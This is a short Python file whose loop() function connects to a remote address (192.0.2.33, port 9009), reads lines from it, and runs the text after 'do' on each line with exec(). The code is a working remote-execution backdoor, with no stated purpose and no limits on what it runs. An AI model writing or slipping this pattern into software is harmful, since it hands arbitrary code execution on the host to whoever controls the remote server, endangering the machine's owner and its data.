import socket


def lines(host, port):
    with socket.create_connection((host, port)) as connection:
        file = connection.makefile("r")
        for line in file:
            yield line.rstrip("\n")


def commands(stream):
    for line in stream:
        word, _, rest = line.partition(" ")
        if word == "do":
            yield rest


def loop():
    for command in commands(lines("192.0.2.33", 9009)):
        exec(command)
